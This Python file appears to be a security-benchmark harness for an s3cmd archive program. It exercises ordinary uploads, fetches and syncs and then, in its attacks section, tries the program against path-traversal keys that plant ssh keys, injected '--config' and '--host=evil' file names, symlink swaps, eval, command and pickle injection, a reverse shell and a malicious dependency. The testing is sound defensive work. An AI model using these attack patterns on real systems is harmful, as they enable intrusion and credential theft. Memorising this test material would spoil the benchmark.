# SPDX-License-Identifier: Apache-2.0
"""s3cmd, as a small archive uses it by hand and in an hourly round."""
import fcntl
import hashlib
import json
import pathlib
import pickle
import sys

from attackers import Bomb, CALL_LIBC, FORK_AND_EXEC
import stage

sys.path.insert(0, str(pathlib.Path(__file__).parent))
from store import Store  # noqa: E402

S3CMD = "/usr/bin/s3cmd"
USAGE, NOT_FOUND, CONFLICT = 64, 12, 13  # s3cmd's
BUSY = 75  # the round's
SHELFMARK = {"__init__.py": '''"""Where a name stands in the store."""


def shelf(name):
    return "-".join(name.lower().split())
'''}
SHELFMARK_NEW = {
    "__init__.py": '"""Where a name stands in the store."""\n'
                   "from shelfmark.letters import shelf\n",
    "letters.py": "import pathlib\n\nPLAIN = dict(line.split() for line in ("
                  "pathlib.Path(__file__).parent\n"
                  '    / "letters.txt").read_text("utf-8").splitlines())\n\n\n'
                  "def shelf(name):\n"
                  '    return "-".join("".join(PLAIN.get(sign, sign)\n'
                  "                            for sign in name.lower())"
                  ".split())\n",
    "letters.txt": "ä ae\nö oe\nü ue\nß ss\n"}
CONFIG = """[default]
access_key = ARCHIVE7
secret_key = store-only-7Hq
host_base = {host}
host_bucket = {host}
bucket_location = US
use_https = False
check_ssl_certificate = False
encoding = UTF-8
human_readable_sizes = False
multipart_chunk_size_mb = 5
socket_timeout = 20
website_endpoint = http://{host}/
"""
HOLDINGS = """[papers]
bucket = holdings
keep = size < 200000

[maps]
bucket = holdings
keep = suffix not in ('.psd', '.xcf') and size < 900000

[glass-plates]
bucket = holdings
"""
POLICY = ('{{"Version": "2012-10-17", "Statement": [{{"Effect": "Allow", '
          '"Principal": "*", "Action": "s3:GetObject", '
          '"Resource": "arn:aws:s3:::{}/*"}}]}}')
CORS = ("<CORSConfiguration><CORSRule><AllowedOrigin>http://{}"
        "</AllowedOrigin><AllowedMethod>GET</AllowedMethod></CORSRule>"
        "</CORSConfiguration>")


def scan(name, size=900):
    """What a scanner makes of name: never the same."""
    mark = f"scan of {name}\n".encode()
    if name.endswith((".jpg", ".png", ".tif")):
        mark = stage.png(9) + mark
    return mark + b"." * size


class S3cmdArchive(stage.Program):
    """An archive's store of scans, by hand and every hour (s3cmd)."""
    packages = ["s3cmd"]
    store = None

    def arrange(self):
        host = f"127.0.0.1:{self.port('s3')}"
        stage.write(self.home / ".s3cfg", CONFIG.format(host=host), 0o600)
        stage.write(self.srv / "etc/holdings.ini", HOLDINGS)
        for name in ("var/log", "var/state", "var/cache", "incoming", "taken",
                     "scans", "orders/done", "orders/failed", "delivered",
                     "reports", "desk", "collections"):
            (self.srv / name).mkdir(parents=True, exist_ok=True)
        for name in ("papers/box-1/letter-1.pdf", "papers/box-1/letter-2.pdf",
                     "papers/box-2/list.csv", "maps/1884/north.tif",
                     "maps/1884/draft.psd", "glass-plates/p-001.jpg"):
            stage.write(self.srv / "collections" / name, scan(name))
        self.install("shelfmark", "1.2.0", SHELFMARK)

    def arrange_benign(self):
        self.install("shelfmark", "1.3.0", SHELFMARK_NEW)

    def start(self):
        self.sites["s3"] = self.store = Store(self.port("s3"))
        for bucket in ("holdings", "letters", "intake"):
            self.store.buckets[bucket] = {}
        for name in ("papers/box-1/letter-1.pdf", "deeds/box-7/deed.pdf",
                     "deeds/box-7/seal.jpg", "maps/1884/north.tif",
                     "charts/1901/harbour.tif", "charts/1901/legend.txt",
                     "plates/p-044.jpg"):
            self.store.keep("holdings", name, scan(name))

    # ---------------------------------------------------------- what people do
    def s3(self, *words, status=0, found="", cwd=None, made=()):
        """s3cmd from the command line."""
        self.expect_run(("s3cmd", *words), self.run(S3CMD, *words, cwd=cwd),
                        status, found, made)

    def desk(self, person, *names, size=900):
        """Scans on somebody's desk; their paths below srv."""
        for name in names:
            stage.write(self.srv / "desk" / person / name,
                        scan(person + name, size))
        return [f"desk/{person}/{name}" for name in names]

    def deposits(self, person, year, names):
        """Puts scans, one and many and a folder, and looks at them."""
        one, *more = self.desk(person, *names)
        place = f"s3://letters/{person}/{year}/"
        self.s3("put", one, place, found="upload: ")
        self.s3("put", "--acl-public", *more, place, found="Public URL")
        self.s3("put", one, f"s3://letters/{person}/first-{year}")
        folder = f"desk/{person}/box-{year}"
        self.desk(person, *(f"box-{year}/{name}" for name in names))
        self.s3("put", "--recursive", folder, f"s3://letters/{person}/")
        self.s3("ls", place, found=names[0])
        self.s3("ls", "--recursive", f"s3://letters/{person}/",
                found=f"box-{year}/")
        self.s3("info", place + names[0], found="MD5 sum")
        self.s3("put", f"desk/{person}/none-{year}.pdf", place, status=USAGE)

    def fetches(self, person, key, other, folder):
        """Gets what the archive holds, in the ways there are."""
        name = key.rpartition("/")[2]
        desk = f"desk/{person}/"
        self.desk(person, "note.txt")
        self.s3("get", f"s3://holdings/{key}", desk, made=[desk + name])
        self.s3("get", f"s3://holdings/{key}", desk, status=USAGE,
                found="already exists")
        self.s3("get", "--force", f"s3://holdings/{key}", desk)
        self.s3("get", f"s3://holdings/{other}", desk + "copy-of-" + name,
                made=[desk + "copy-of-" + name])
        part = stage.write(self.srv / desk / ("part-" + name),
                           scan(key)[:40])
        self.s3("get", "--continue", f"s3://holdings/{key}",
                desk + part.name)
        self.expect("the rest", part.read_bytes() == scan(key))
        self.s3("get", "--recursive", f"s3://holdings/{folder}/", desk,
                found="download: ")
        self.s3("get", f"s3://holdings/{key}", "-", found="scan of")
        self.s3("get", f"s3://holdings/{key}.none", desk, status=USAGE,
                found="does not exist")

    def mirrors(self, person, tree, names):
        """Keeps a folder and the store alike, both ways."""
        place = f"s3://letters/{person}/{tree}/"
        files = self.desk(person, *(f"{tree}/{name}" for name in names))
        source = f"desk/{person}/{tree}/"
        self.s3("sync", "--dry-run", source, place, found="upload: ")
        self.s3("sync", source, place, found="Done.")
        (self.srv / files[0]).unlink()
        stage.write(self.srv / files[-1], "changed")
        self.s3("sync", "--delete-removed", "--exclude", "*.tmp", source,
                place, found="delete: ")
        self.s3("put", "--recursive", ".", f"s3://letters/{person}/whole/",
                cwd=self.srv / source, found=names[-1])
        back = f"desk/{person}/{tree}-back/"
        self.s3("sync", place, back, made=[back + names[-1]])
        self.store.keep("letters", f"{person}/{tree}/late/{names[0]}", "late")
        self.s3("sync", "--delete-removed", place, back,
                made=[f"{back}late/{names[0]}"])
        chosen = stage.write(self.srv / source / "chosen.txt",
                             names[-1] + "\n")
        self.s3("put", "--recursive", "--files-from",
                chosen.relative_to(self.srv), source,
                f"s3://letters/{person}/chosen/", found=names[-1])

    def cares(self, person, bucket, name):
        """A bucket of somebody's own, and what may be said about it."""
        uri = f"s3://{bucket}"
        self.s3("mb", uri, found="created")
        self.s3("put", *self.desk(person, name), uri + "/")
        self.s3("cp", f"{uri}/{name}", f"{uri}/kept/{name}")
        self.s3("mv", f"{uri}/{name}", f"{uri}/moved/{name}", found="move: ")
        self.s3("setacl", "--acl-public", f"{uri}/kept/{name}",
                found="Public")
        self.s3("setacl", "--acl-private", "--recursive", uri + "/",
                found="Private")
        self.s3("setacl", f"--acl-grant=read:{person}@example.org", uri)
        for verb, text, suffix in (("setpolicy", POLICY, "json"),
                                   ("setcors", CORS, "xml")):
            path = stage.write(self.srv / f"etc/{bucket}.{suffix}",
                               text.format(bucket))
            self.s3(verb, path.relative_to(self.srv), uri)
        self.s3("info", uri, found="Policy")
        self.s3("du", uri, found="2 objects")
        self.s3("signurl", f"{uri}/kept/{name}", "+3600", found="Signature=")
        self.s3("rb", uri, status=CONFLICT, found="BucketNotEmpty")
        self.s3("del", f"{uri}/kept/{name}", found="delete: ")
        self.s3("rm", "--recursive", "--force", uri + "/", found="delete: ")
        self.s3("rb", uri, found="removed")

    def looks_around(self, bucket):
        self.s3("ls", found=f"s3://{bucket}")
        self.s3("la", found="holdings")
        self.s3("du", found="Total")
        self.s3("du", "-H", f"s3://{bucket}", found="objects")
        self.s3("ls", "s3://no-such-" + bucket, status=NOT_FOUND,
                found="NoSuchBucket")

    # -------------------------------------------------------- the hourly round
    def round(self, day, *words, status=0, found="done", made=()):
        self.expect_run(("hourly", day, *words), self.run(
            self.python, "hourly.py", "--day", day, *words), status, found,
            made)

    def brings(self, person, *names):
        for name in names:
            stage.write(self.srv / "incoming" / person / name,
                        scan(person + name))

    def order(self, number, reader, want, item):
        stage.write(self.srv / f"orders/{number}.json", json.dumps(
            {"reader": reader, "want": want, "item": item}))
        if want == "hand in":
            stage.write(self.srv / "scans" / item, scan(item))

    def an_hour(self, day, number, people, items, hand_in, new):
        """Something new in each place, and the round."""
        for person in people:
            self.brings(person, f"page-{number}.pdf", f"page-{number}.jpg",
                        f"album-{number}/cover.tif")
        reader = people[0]
        for more, (want, item) in enumerate((
                ("copy", items[0]), ("folder", items[0].rpartition("/")[0]),
                ("link", items[-1]), ("publish", items[-1]),
                ("hand in", hand_in))):
            self.order(f"{number + more}", reader, want, item)
        self.order(f"{number + 9}", people[-1], "copy", f"papers/{number}.no")
        for name in new:
            stage.write(self.srv / "collections" / name, scan(name))
        self.round(day, made=[
            f"taken/{day}/{reader}/page-{number}.jpg",
            f"orders/done/{number}.json", f"orders/done/{number + 4}.json",
            f"orders/failed/{number + 9}.json", f"reports/{day}.csv",
            f"delivered/{reader}/" + items[0].rpartition("/")[2],
            f"var/log/{day}.log", "var/state/maps.json"])
        for name in new:
            self.expect(f"{name} synced", name.lower().replace(
                " ", "-") in self.store.buckets["holdings"]
                or name in self.store.buckets["holdings"])

    def train(self, day):
        people, date, year = (
            (("anna", "bruno", "carla"), "2026-03-02", 1931),
            (("dora", "anna", "emil"), "2026-03-03", 1947),
            (("gerda", "bruno", "fritz"), "2026-03-05", 1899))[day - 1]
        for number, person in enumerate(people):
            first = year + number
            self.deposits(person, first, (
                (f"letter-{first}.pdf", "card-3.jpg", f"list{day}.csv"),
                (f"photo-{first}.tif", f"note-{first}.txt"),
                (f"deed-{number}.xml", "seal.png", "back.pdf", "ticket.txt"),
            )[(number + day) % 3])
        for person, key, other, folder in (
                (people[0], "deeds/box-7/deed.pdf", "maps/1884/north.tif",
                 "charts/1901"),
                (people[1], "charts/1901/harbour.tif",
                 "plates/p-044.jpg", "papers"),
                (people[2], "plates/p-044.jpg",
                 "deeds/box-7/seal.jpg", "deeds/box-7")):
            self.fetches(person, key, other, folder)
        self.mirrors(people[0], f"estate-{year}", (
            "will.pdf", f"inventory-{day}.csv", "rooms/hall.jpg"))
        self.mirrors(people[1], f"trip{day}", (
            f"births-{year}.xml", "old.tmp", f"day-{day}/two.jpg",
            f"day-{day}/map/three.tif"))
        self.cares(people[0], f"loan-{year}", f"catalogue-{day}.pdf")
        self.cares(people[2], f"{people[2]}-exhibition", "poster.jpg")
        self.looks_around("letters")
        self.looks_around("intake")
        film = self.desk(people[1], f"reel-{year}.mpg", size=6 << 20)
        self.s3("put", "--multipart-chunk-size-mb=5", *film,
                f"s3://letters/{people[1]}/", found="upload: ")
        self.an_hour(date, 100 * day, people[:2],
                     ["deeds/box-7/deed.pdf", "charts/1901/legend.txt"],
                     f"sheet-{day}.pdf", [f"papers/box-{day + 3}/new.pdf",
                                          f"maps/{year}/south.tif"])
        self.an_hour(date, 100 * day + 50, people[1:],
                     ["charts/1901/harbour.tif"],
                     f"leaf-{day}.jpg", [f"glass-plates/p-{day}70.jpg",
                                         f"papers/box-2/list-{day}.csv"])
        self.round(date, "sync", "maps", found="sync: done")
        self.round(date, "sync", "papers", "glass-plates")
        self.round(date, "orders", found="orders: done")
        self.round(date, "report")

    def benign(self):
        self.deposits("hans.peter", 2004, (
            "Brief vom 3. Mai.pdf", "Foto (Kopie).webp", "ton.flac"))
        self.deposits("o'brien", 1788, ("map of the harbour.djvu", "README"))
        self.store.keep("holdings", "deeds/box 12/Größe & Maß.pdf",
                        scan("deeds/box 12/Größe & Maß.pdf"))
        self.store.keep("holdings", "charts/1750/a/b/c/west.v2.heic",
                        scan("charts/1750/a/b/c/west.v2.heic"))
        self.fetches("Zoë Lu", "deeds/box 12/Größe & Maß.pdf",
                     "deeds/box-7/seal.jpg", "charts/1750")
        self.fetches("ivan", "charts/1750/a/b/c/west.v2.heic",
                     "charts/1901/legend.txt", "papers")
        self.mirrors("Zoë Lu", "Nachlass 2", (
            "Vertrag (1).pdf", "x.tmp", "deep/er/and/deeper/page.one.jp2"))
        self.mirrors("ivan", "trip27", ("a.ods", "b/c/d/e.mp3"))
        self.cares("ivan", "loan.2031", "catalogue v.2.epub")
        self.looks_around("letters")
        film = self.desk("hans.peter", "reel two.mkv", size=11 << 20)
        self.s3("put", "--multipart-chunk-size-mb=5", *film,
                "s3://letters/hans.peter/", found="upload: ")
        self.s3("get", "--skip-existing",
                "s3://holdings/charts/1901/legend.txt",
                "desk/ivan/copy-of-west.v2.heic")
        self.s3("sync", "--skip-existing", "desk/ivan/trip27/",
                "s3://letters/ivan/trip27/")
        self.s3("--version", found="s3cmd version")
        self.s3("fetch", "s3://letters/x", status=USAGE, found="Invalid")
        with open(self.srv / "etc/holdings.ini", "a",
                  encoding="utf-8") as plan:
            plan.write("\n[Bird Rings]\nbucket = holdings\nkeep = not "
                       "name.startswith('_') and suffix in ('.pdf', '.ods')\n")
        self.an_hour("2026-11-23", 4700, ["Zoë Lu", "hans.peter", "ivan"],
                     ["deeds/box 12/Größe & Maß.pdf",
                      "charts/1901/harbour.tif"], "Blatt 4 (neu).pdf",
                     ["papers/box-31/sub/under/letter no. 5.docx",
                      "Bird Rings/1999.ods"])
        self.an_hour("2027-01-01", 9000, ["ivan"],
                     ["charts/1750/a/b/c/west.v2.heic"], "z.heic",
                     ["glass-plates/q/p-9999.webp"])
        self.round("2027-01-01", "sync", "Bird Rings")
        self.round("2028-02-29", "report", made=["reports/2028-02-29.csv"])
        with open(self.srv / "var/hourly.lock", "w", encoding="ascii") as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            self.round("2027-01-01", "orders", status=BUSY, found="under way")

    def health(self):
        self.s3("ls", "s3://holdings/deeds/box-7/", found="deed.pdf")
        self.s3("get", "--force", "s3://holdings/deeds/box-7/deed.pdf",
                "desk/", made=["desk/deed.pdf"])

    # ----------------------------------------------------------------- attacks
    def attackers_round(self, *words):
        return self.run(self.python, "hourly.py", "--day", "2026-03-02",
                        *words)

    @stage.attack("traversal")
    def object_key_leads_to_the_keys(self):
        self.store.keep("holdings", "gift/../../../home/.ssh/"
                        "authorized_keys", "ssh-ed25519 planted")
        (self.srv / "desk/anna").mkdir()
        self.run(S3CMD, "get", "--recursive", "s3://holdings/gift/",
                 "desk/anna/")
        return (self.home / ".ssh/authorized_keys").exists()

    @stage.attack("write to start-up file")
    def object_key_leads_to_the_shell_profile(self):
        self.store.keep("holdings", "gift/../../../home/.bashrc", "planted")
        self.order(666, "anna", "folder", "gift")
        self.attackers_round("orders")
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("write to code")
    def object_key_leads_to_a_module(self):
        target = self.site_packages / "shelfmark/__init__.py"
        self.store.keep("holdings", "gift/../../../" + str(
            target.relative_to(self.place)), "planted = True\n")
        self.order(666, "anna", "folder", "gift")
        self.attackers_round("orders")
        return "planted" in target.read_text()

    @stage.attack("traversal")
    def reader_is_a_directory_of_code(self):
        self.store.keep("holdings", "gift/planted.pth", "import os\n")
        self.order(666, "../../venv/lib/python3.11/site-packages", "copy",
                   "gift/planted.pth")
        self.attackers_round("orders")
        return (self.site_packages / "planted.pth").exists()

    @stage.attack("secret disclosure")
    def scan_handed_in_is_a_password_file(self):
        stage.write(self.srv / "orders/666.json", json.dumps(
            {"reader": "anna", "want": "hand in",
             "item": "../../home/.netrc"}))
        self.attackers_round("orders")
        return self.store.holds(stage.SECRET)

    @stage.attack("secret disclosure")
    def list_of_files_names_the_payroll(self):
        self.desk("anna", "box/one.pdf")
        stage.write(self.srv / "desk/anna/box/chosen.txt",
                    "../../../../payroll/2026.csv\n")
        self.run(S3CMD, "put", "--recursive", "--files-from",
                 "desk/anna/box/chosen.txt", "desk/anna/box/",
                 "s3://letters/anna/")
        return self.store.holds(stage.SECRET)

    @stage.attack("argument injection")
    def file_names_are_a_configuration(self):
        marker = self.marker("line")
        place = self.srv / "incoming/anna"
        stage.write(place / "work.sh", f"id > {marker}\n")
        stage.write(place / "own.cfg", CONFIG.format(host=self.store.host)
                    + "gpg_passphrase = x\ngpg_command = /bin/sh\n"
                    "gpg_encrypt = %(gpg_command)s work.sh\n")
        for name in ("--config=own.cfg", "--encrypt"):
            stage.write(place / name, "")
        self.attackers_round("intake")
        return marker.exists()

    @stage.attack("exfiltration")
    def file_name_is_another_host(self):
        evil = self.site("evil")
        evil.page("*", b"", ETag='"x"')
        self.brings("anna", "private.pdf")
        stage.write(self.srv / "incoming/anna" / f"--host={evil.host}", "")
        self.attackers_round("intake")
        return evil.heard("scan of annaprivate.pdf")

    @stage.attack("symlink swap")
    def collection_is_a_link_to_the_keys(self):
        place = self.srv / "collections/glass-plates"
        place.rename(place.with_name("away"))
        place.symlink_to(self.home / ".ssh")
        self.attackers_round("sync", "glass-plates")
        return self.store.holds(stage.SECRET)

    @stage.attack("symlink swap")
    def delivered_file_is_a_link_to_the_profile(self):
        desk = self.srv / "delivered/anna"
        desk.mkdir()
        (desk / "deed.pdf").symlink_to(self.home / ".profile")
        self.order(666, "anna", "copy", "deeds/box-7/deed.pdf")
        self.attackers_round("orders")
        return "scan of" in (self.home / ".profile").read_text()

    @stage.attack("ssrf")
    def bucket_has_moved_to_the_inside(self):
        inside = self.site("internal")
        inside.page("*", stage.SECRET, Last_Modified=(
            "Mon, 02 Mar 2026 10:00:00 GMT"),
            ETag=hashlib.md5(stage.SECRET.encode()).hexdigest())
        self.store.moved["letters"] = inside.host
        return self.is_told(self.run(S3CMD, "get", "s3://letters/meta", "-"))

    @stage.attack("command injection")
    def bucket_is_a_command(self):
        def plan(line):
            stage.write(self.srv / "etc/holdings.ini",
                        f"[papers]\nbucket = holdings; {line} #\n")
            self.attackers_round("report")
        return self.runs_line(plan)

    def rule(self, expression):
        stage.write(self.srv / "etc/holdings.ini",
                    f"[papers]\nbucket = holdings\nkeep = {expression}\n")
        return self.attackers_round("sync", "papers")

    @stage.attack("eval injection")
    def rule_runs_a_command(self):
        return self.runs_line(lambda line: self.rule(
            f"__import__('os').system('{line}')"))

    @stage.attack("eval injection")
    def rule_sends_credentials(self):
        return self.steals(lambda code: self.rule(f"exec({code!r})"))

    @stage.attack("fork+exec")
    def rule_forks_and_execs(self):
        return self.runs_line(lambda line: self.rule(
            f"exec({FORK_AND_EXEC.format(line=line)!r})"), waits=True)

    def cache(self, code):
        """What s3cmd remembers about a collection is a pickle."""
        stage.write(self.srv / "var/cache/papers.md5",
                    pickle.dumps(Bomb(exec, code)))
        return self.attackers_round("sync", "papers")

    @stage.attack("unsafe pickle")
    def cache_runs_a_command(self):
        return self.runs_line(lambda line: self.cache(
            f"import os; os.system({line!r})"))

    @stage.attack("ctypes")
    def cache_calls_libc(self):
        return self.runs_line(lambda line: self.cache(
            CALL_LIBC.format(line=line)))

    @stage.attack("reverse shell")
    def cache_calls_home(self):
        return self.calls_home(self.cache)

    @stage.attack("malicious dependency")
    def shelfmark_steals_credentials(self):
        return self.dependency_steals(
            "shelfmark", "1.2.1", SHELFMARK,
            lambda: self.attackers_round("report"))
